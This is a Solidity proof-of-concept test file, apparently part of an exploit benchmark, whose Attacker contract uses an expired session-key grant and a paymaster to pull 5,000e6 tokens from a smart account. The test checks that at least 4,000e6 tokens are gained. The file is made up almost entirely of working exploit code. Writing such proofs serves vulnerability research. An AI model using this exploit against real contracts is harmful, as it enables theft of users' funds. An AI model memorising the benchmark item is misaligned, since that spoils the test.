// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker is Signer {
    function run(IEntryPoint point, address account, address validator, address token, uint256 id, address paymaster) external {
        Call[] memory calls = new Call[](1);
        calls[0] = sending(token, address(this), 5_000e6);
        Operation memory op = operation(point, account, validator, Executions.encode(Mode.Strict, calls));
        (op.unitPrice, op.paymaster, op.paymasterData) = (1, paymaster, abi.encode(1e6));
        op.signature = abi.encode(id, bytes(""));
        handle(point, op);
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private id;

    function start() internal override {
        other = new Attacker();
        ISessionValidator.Grant memory t = terms(address(other), 5_000e6, false);
        t.until = uint48(block.timestamp + 1 hours);
        id = granted(t);
        vm.warp(block.timestamp + 2 hours);
    }

    function exploit() public {
        other.run(entryPoint, ana, address(sessions), address(usd), id, address(paymaster));
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 4_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
